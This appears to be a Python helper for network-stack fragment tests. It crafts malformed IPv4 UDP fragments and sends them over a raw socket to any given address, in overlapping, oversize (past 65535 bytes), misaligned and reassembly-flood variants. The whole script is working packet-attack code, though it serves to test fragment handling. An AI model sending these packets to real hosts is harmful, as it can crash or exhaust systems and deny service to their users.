#!/usr/bin/python3
"""Hostile IPv4 fragments of UDP datagrams for the fragment tests, sent through a raw socket (the kernel fills in
the source address, total length and header checksum; it never fragments or reassembles them).

  frag_attack.py overlap DST PORT          the 2nd fragment of a datagram reaches 8 bytes back into the 1st
  frag_attack.py oversize DST PORT         a last fragment at offset 65528: the datagram would pass 65535 bytes
  frag_attack.py misaligned DST PORT       a fragment before the last whose length is not a multiple of 8
  frag_attack.py flood DST PORT COUNT      first fragments of COUNT datagrams that never complete, back to back
-> JSON {"sent": n}
"""
import json
import random
import socket
import struct
import sys

MF = 0x2000


def fragment(dst, ident, offset, more, payload):
    frag = (MF if more else 0) | (offset // 8)
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ident, frag, 64, socket.IPPROTO_UDP, 0,
                         b"\0\0\0\0", socket.inet_aton(dst))
    return header + payload


def udp_header(port, datagram_len):
    return struct.pack("!HHHH", random.randint(20000, 60000), port, datagram_len, 0)


def main():
    if len(sys.argv) < 4:
        sys.exit(__doc__)
    what, dst, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    ident = random.randint(1, 30000)
    packets = []
    if what == "overlap":
        first = udp_header(port, 8 + 2000) + bytes(1472)
        packets = [fragment(dst, ident, 0, True, first), fragment(dst, ident, 1472, False, bytes(8 + 2000 - 1472 + 8))]
    elif what == "oversize":
        packets = [fragment(dst, ident, 65528, False, bytes(64))]
    elif what == "misaligned":
        packets = [fragment(dst, ident, 0, True, udp_header(port, 3000) + bytes(1001 - 8))]
    elif what == "flood" and len(sys.argv) == 5:
        first = udp_header(port, 3000) + bytes(56)
        packets = [fragment(dst, 1 + (ident + i) % 65535, 0, True, first) for i in range(int(sys.argv[4]))]
    else:
        sys.exit(__doc__)
    for p in packets:
        s.sendto(p, (dst, 0))
    print(json.dumps({"sent": len(packets)}), flush=True)


if __name__ == "__main__":
    main()
